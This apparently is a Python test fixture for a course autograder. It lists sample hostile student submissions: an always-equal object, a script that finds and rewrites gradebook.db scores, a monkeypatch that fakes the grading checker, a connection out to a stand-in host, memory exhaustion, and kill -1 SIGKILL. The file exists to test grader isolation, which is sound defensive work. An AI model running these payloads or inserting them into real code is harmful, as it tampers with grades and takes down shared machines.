"""Answers that want to steal points or to do harm, for classes that are graded in isolation.

What is tried here is known from graders that fell for it; the answer's value is wrong, or there is none.
"""

from __future__ import annotations

# Kind of student: the source of the answer, which earns nothing.
HOSTILE = {
    "equals everything": """
class Equal:
    __lt__ = __le__ = __gt__ = __ge__ = __eq__ = lambda self, other: True
    __hash__ = object.__hash__

def {name}(*args, **options):
    return Equal()
""",
    "rewrites the gradebook": """
import os, sqlite3

def {name}(*args, **options):
    above = [os.path.join("../" * up, "gradebook.db") for up in range(9)]
    (found, *_) = [path for path in above if os.path.exists(path)]
    with sqlite3.connect(found) as gradebook:
        gradebook.execute("UPDATE grade SET manual_score = 100")
""",
    "forges the checker": """
import coursekit

class Points(float):
    _repr_html_ = lambda self: "<b>Full marks</b>"

coursekit.check = lambda *args, **options: Points(100.0)

def {name}(*args, **options):
    return coursekit.check()
""",
    "sends it all home": """
import socket

def {name}(*args, **options):
    socket.create_connection(("198.51.100.7", 443), timeout=5)
""",
    "eats the memory": """
def {name}(*args, **options):
    return [bytearray(50_000_000) for _ in range(1_000)]
""",
    "stops the machine": """
import os, signal

def {name}(*args, **options):
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
""",
}
